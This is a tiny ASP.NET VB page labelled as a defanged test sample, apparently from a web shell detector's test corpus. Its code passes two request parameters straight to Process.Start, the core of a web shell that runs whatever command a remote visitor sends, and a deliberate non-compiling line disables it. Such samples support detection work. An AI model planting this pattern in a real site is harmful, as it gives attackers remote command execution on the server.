<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<%
Dim x As New ProcessStartInfo
x.FileName = Request.Item("f")
x.Arguments = Request.Item("a")
Process.Start(x)
%>
